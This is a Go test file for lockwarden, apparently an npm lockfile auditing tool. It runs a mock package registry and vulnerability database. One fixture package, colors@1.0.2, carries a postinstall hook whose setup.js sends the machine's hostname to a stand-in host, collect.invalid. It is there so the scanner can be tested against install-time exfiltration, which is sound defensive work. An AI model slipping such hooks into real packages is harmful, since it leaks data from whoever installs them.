package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/owenrumney/go-sarif/v3/pkg/report/v210/sarif"
	"github.com/rogpeppe/go-internal/testscript"

	"github.com/lockwarden/lockwarden/app/store/storetest"
)

// TestMain makes lockwarden a command of the scripts, and of its own workers.
func TestMain(m *testing.M) {
	if len(os.Args) > 1 && os.Args[1] == "worker" {
		main() // a server under test starts itself, which must never run the tests
		return
	}
	if filepath.Base(os.Args[0]) != "lockwarden" {
		storetest.Patient()
	}
	testscript.Main(m, map[string]func(){"lockwarden": main})
}

// version of a package that the test registry serves.
type testPackage struct {
	files map[string]string
	// other is served in the place of the package that was hashed.
	other bool
	slow  bool
	// once makes it slow for the first request only.
	once *atomic.Bool
}

// fixture packages: small, and inert.
var testPackages = map[string]testPackage{
	"quiet@1.0.0":   {files: map[string]string{"index.js": "module.exports = 1"}},
	"quiet@1.1.0":   {files: map[string]string{"index.js": "module.exports = 2"}},
	"client@1.0.0":  {files: map[string]string{"index.js": "exports.get = u => require('https').get(u)"}},
	"colors@1.0.1":  {files: map[string]string{"index.js": "module.exports = 'red'"}},
	"colors@1.0.2":  {files: map[string]string{"index.js": "module.exports = 'red'", "setup.js": "const os = require('os')\nconst https = require('https')\nhttps.request({ host: 'collect.invalid', path: '/?h=' + os.hostname() }).end()\n", "package.json": `{"name":"colors","version":"1.0.2","license":"MIT","repository":"github:a/a","scripts":{"postinstall":"node setup.js"}}`}},
	"swapped@1.0.0": {files: map[string]string{"index.js": "1"}, other: true},
	"slow@1.0.0":    {files: map[string]string{"index.js": "1"}, slow: true},
	"large@1.0.0":   {files: map[string]string{"index.js": large("a")}},
	"large@1.1.0":   {files: map[string]string{"index.js": large("b")}},
	"cutoff@1.0.0":  {files: map[string]string{"index.js": large("c")}},
	"gone@1.0.0":    {files: map[string]string{"index.js": "1"}},
	"ill@1.0.0":     {files: map[string]string{"index.js": "1"}},
	"tardy@1.0.0":   {files: map[string]string{"index.js": "1"}, slow: true, once: new(atomic.Bool)},
}

// large is a script that takes some tenths of a second to read.
func large(name string) string {
	var b strings.Builder
	for i := range 20000 {
		fmt.Fprintf(&b, "function %s%d(x) { const y = [x, %d]; return y.map(z => z + %d).join('') }\n", name, i, i, i)
	}
	return b.String()
}

func pack(name, version string, files map[string]string) []byte {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	add := func(file, text string) {
		_ = w.WriteHeader(&tar.Header{Name: "package/" + file, Mode: 0o644, Size: int64(len(text))})
		_, _ = io.WriteString(w, text)
	}
	if files["package.json"] == "" {
		add("package.json", fmt.Sprintf(`{"name":%q,"version":%q,"license":"MIT","repository":"github:a/a"}`, name, version))
	}
	for _, file := range []string{"package.json", "index.js", "setup.js"} {
		if files[file] != "" {
			add(file, files[file])
		}
	}
	w.Close()
	z.Close()
	return b.Bytes()
}

func integrity(data []byte) string {
	sum := sha512.Sum512(data)
	return "sha512-" + base64.StdEncoding.EncodeToString(sum[:])
}

// testRegistry serves testPackages, by https, on loopback.
func testRegistry(t *testing.T) *httptest.Server {
	s := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		path := strings.TrimPrefix(r.URL.Path, "/")
		if name, file, ok := strings.Cut(path, "/-/"); ok {
			version := strings.TrimSuffix(strings.TrimPrefix(file, name+"-"), ".tgz")
			p, ok := testPackages[name+"@"+version]
			switch {
			case !ok:
				w.WriteHeader(404)
			case p.slow && (p.once == nil || !p.once.Swap(true)):
				w.WriteHeader(200)
				w.(http.Flusher).Flush()
				select {
				case <-r.Context().Done():
				case <-time.After(20 * time.Second):
				}
			case p.other:
				w.Write(pack(name, version, map[string]string{"index.js": "something else"}))
			default:
				w.Write(pack(name, version, p.files))
			}
			return
		}
		versions := map[string]any{}
		for id, p := range testPackages {
			if name, version, _ := strings.Cut(id, "@"); name == path {
				versions[version] = map[string]any{"name": name, "version": version, "dist": map[string]any{"integrity": integrity(pack(name, version, p.files))}}
			}
		}
		if len(versions) == 0 {
			w.WriteHeader(404)
			return
		}
		json.NewEncoder(w).Encode(map[string]any{"name": path, "versions": versions, "dist-tags": map[string]string{"latest": "1.0.0"}})
	}))
	t.Cleanup(s.Close)
	return s
}

// testOSV is an OSV that knows one advisory, on client 1.0.0.
func testOSV(t *testing.T) *httptest.Server {
	const record = `{"id":"GHSA-test","aliases":["CVE-2026-1"],"summary":"Request smuggling","affected":[{"package":{"ecosystem":"npm","name":"client"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"1.0.1"}]}]}],"database_specific":{"severity":"HIGH"}}`
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/v1/vulns/GHSA-test" {
			fmt.Fprint(w, record)
			return
		}
		var in struct {
			Queries []struct{ Package struct{ Name string } }
		}
		_ = json.NewDecoder(r.Body).Decode(&in)
		results := []any{}
		for _, q := range in.Queries {
			if q.Package.Name == "client" {
				results = append(results, map[string]any{"vulns": []any{map[string]string{"id": "GHSA-test", "modified": "2026-01-01T00:00:00Z"}}})
			} else {
				results = append(results, map[string]any{})
			}
		}
		_ = json.NewEncoder(w).Encode(map[string]any{"results": results})
	}))
	t.Cleanup(s.Close)
	return s
}

// lockfileOf writes a lockfile of test packages: "name@version", or
// "name@version=URL" for another source.
func lockfileOf(server string, ids []string) string {
	var b strings.Builder
	b.WriteString("{\n  \"name\": \"app\",\n  \"lockfileVersion\": 3,\n  \"packages\": {\n    \"\": {\n      \"name\": \"app\",\n      \"dependencies\": {")
	for i, id := range ids {
		name, version, _ := strings.Cut(strings.SplitN(id, "=", 2)[0], "@")
		if i > 0 {
			b.WriteString(",")
		}
		fmt.Fprintf(&b, "\n        %q: %q", name, version)
	}
	b.WriteString("\n      }\n    }")
	for _, id := range ids {
		id, resolved, _ := strings.Cut(id, "=")
		name, version, _ := strings.Cut(id, "@")
		if resolved == "" {
			resolved = fmt.Sprintf("%s/%s/-/%s-%s.tgz", server, name, name, version)
		}
		fmt.Fprintf(&b, ",\n    \"node_modules/%s\": {\n      \"version\": %q,\n      \"resolved\": %q,\n      \"integrity\": %q\n    }", name, version, resolved, integrity(pack(name, version, testPackages[id].files)))
	}
	b.WriteString("\n  }\n}\n")
	return b.String()
}

// TestScripts runs the transcripts of testdata: what a user types, and sees.
func TestScripts(t *testing.T) {
	t.Parallel()
	server, osv := testRegistry(t), testOSV(t)
	testscript.Run(t, testscript.Params{
		Dir: "testdata",
		Setup: func(e *testscript.Env) error {
			ca := filepath.Join(e.WorkDir, "ca.pem")
			if err := os.WriteFile(ca, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw}), 0o600); err != nil {
				return err
			}
			rc := filepath.Join(e.WorkDir, "npmrc")
			if err := os.WriteFile(rc, []byte("registry="+server.URL+"/\ncafile="+ca+"\n"), 0o600); err != nil {
				return err
			}
			e.Setenv("npm_config_userconfig", rc)
			e.Setenv("HOST", strings.TrimPrefix(server.URL, "https://"))
			e.Setenv("OSV", osv.URL)
			e.Setenv("CACHE", filepath.Join(e.WorkDir, "cache"))
			e.Setenv("HOME", e.WorkDir)
			e.Setenv("COLUMNS", "100")
			e.Setenv("GIT_CONFIG_GLOBAL", os.DevNull)
			return nil
		},
		Cmds: map[string]func(*testscript.TestScript, bool, []string){
			// lockfile FILE ID… writes a lockfile.
			"lockfile": func(ts *testscript.TestScript, _ bool, args []string) {
				ts.Check(os.MkdirAll(filepath.Dir(ts.MkAbs(args[0])), 0o755))
				ts.Check(os.WriteFile(ts.MkAbs(args[0]), []byte(lockfileOf(server.URL, args[1:])), 0o600))
			},
			// git ARGS… runs git with an identity.
			"git": func(ts *testscript.TestScript, neg bool, args []string) {
				err := ts.Exec("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@example.org", "-c", "init.defaultBranch=main"}, args...)...)
				if (err != nil) != neg {
					ts.Fatalf("git %v: %v", args, err)
				}
			},
			// status N runs lockwarden and wants that exit status.
			"status": func(ts *testscript.TestScript, _ bool, args []string) {
				err := ts.Exec("lockwarden", args[1:]...)
				got := "0"
				if err != nil {
					got = strings.TrimPrefix(err.Error(), "exit status ")
				}
				if got != args[0] {
					ts.Fatalf("exit status %s, want %s", got, args[0])
				}
			},
			// validsarif FILE checks against the schema of SARIF 2.1.0.
			"validsarif": func(ts *testscript.TestScript, _ bool, args []string) {
				report, err := sarif.FromBytes([]byte(ts.ReadFile(args[0])))
				ts.Check(err)
				ts.Check(report.Validate())
			},
		},
	})
}
